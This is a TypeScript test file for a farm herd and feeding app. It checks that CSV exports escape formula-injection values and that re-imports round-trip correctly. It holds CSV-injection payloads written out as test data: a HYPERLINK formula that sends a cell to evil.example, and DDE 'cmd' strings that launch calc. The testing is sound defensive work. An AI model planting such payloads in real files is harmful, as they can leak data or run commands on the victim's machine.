import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvRecords } from '@barnboard/domain';
import { feedingKit, type FeedingKit } from '../support/feeding-sites.js';
import type { ImportAnswer } from '../support/import-answer.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

/**
 * Every CSV export of the exchange formats is guarded against formula injection (OWASP CSV
 * injection), and its re-import reads each guarded cell back to the value that was stored.
 */

let t: TestApp;
let kit: FeedingKit;

/** Values a user may type that a spreadsheet would run: each is a valid animal or station name. */
const SOW = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const GILT = "@SUM(1+1)*cmd|' /C calc'!A0";
const STATION = "=cmd|' /C calc'!A0";
const QUOTED = "'=already quoted";
const ANIMALS = [SOW, GILT, QUOTED];
const D = '2026-03-10';

/** True when a spreadsheet would read this raw cell as a formula (numbers such as -2 are not). */
function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+([.,]\d+)?$/.test(cell);
}

/** The raw cells of a CSV answer, exactly as written (not unguarded). */
function rawCells(csv: string): string[] {
  return [...csvRecords(csv, ';')].flatMap((record) => record.cells);
}

type Exchange = { path: string; key: string; items: Record<string, unknown>[] };

const exchanges: Exchange[] = [
  {
    path: 'records',
    key: 'records',
    items: [
      { type: 'heat', animal: SOW, date: D, location: STATION },
      { type: 'foster', animal: GILT, date: D, count: -2 },
    ],
  },
  {
    path: 'feed-intakes',
    key: 'intakes',
    items: [
      { animal: SOW, date: D, kind: 'gestation', target_g: 2500, distributed_g: 2400, day: 40 },
      {
        animal: QUOTED,
        date: D,
        kind: 'gestation',
        target_g: 2500,
        distributed_g: 2500,
        day: 41,
        station: STATION,
      },
    ],
  },
  {
    path: 'feeding/visits',
    key: 'visits',
    items: [{ animal: GILT, station: STATION, time: `${D}T06:00:00-04:00`, quantity_g: 900 }],
  },
  {
    path: 'feeding/notifications',
    key: 'notifications',
    items: [{ station: STATION, code: 102, time: `${D}T08:00:00-04:00` }],
  },
];

/** A fresh site whose herd holds ANIMALS and whose one station is STATION. */
async function newSite(): Promise<string> {
  const id = await kit.newSite(ANIMALS);
  const stations = [{ name: STATION, kind: 'gestation', location: '+Pen 1' }];
  expect(
    (await kit.post(`/api/sites/${id}/feeding/stations/import`, { stations })).statusCode,
  ).toBe(200);
  return id;
}

beforeAll(async () => {
  t = await createTestApp();
  kit = await feedingKit(t);
}, 120_000);

afterAll(() => t?.close());

describe.each(exchanges)('the $path export', ({ path, key, items }) => {
  it('writes no cell a spreadsheet would run, and its re-import stores the same values', async () => {
    const source = await newSite();
    const imported = await kit.post(`/api/sites/${source}/${path}/import`, { [key]: items });
    expect(imported.json<ImportAnswer>()).toMatchObject({ created: items.length, invalid: [] });

    const csv = await kit.get(`/api/sites/${source}/${path}/export?format=csv`);
    expect(csv.statusCode).toBe(200);
    const cells = rawCells(csv.body);
    expect(cells.filter(isFormula)).toEqual([]);
    // The guard is an apostrophe in front, and one more before a value's own apostrophe.
    expect(cells).toContain(`'${STATION}`);
    if (path === 'records') expect(cells).toContain('-2');
    if (path === 'feed-intakes') expect(cells).toContain(`'${QUOTED}`);

    // The records export holds the animals' entries too: it goes to a site with no herd.
    const copy = path === 'records' ? await kit.newSite([]) : await newSite();
    const again = await kit.post(`/api/sites/${copy}/${path}/import`, csv.body);
    expect(again.json<ImportAnswer>()).toMatchObject({ invalid: [] });
    const original = (await kit.get(`/api/sites/${source}/${path}/export`)).json<unknown>();
    const copied = (await kit.get(`/api/sites/${copy}/${path}/export`)).json<unknown>();
    expect(copied).toEqual(original);
    expect(JSON.stringify(copied)).toContain(JSON.stringify(STATION).slice(1, -1));
  });
});
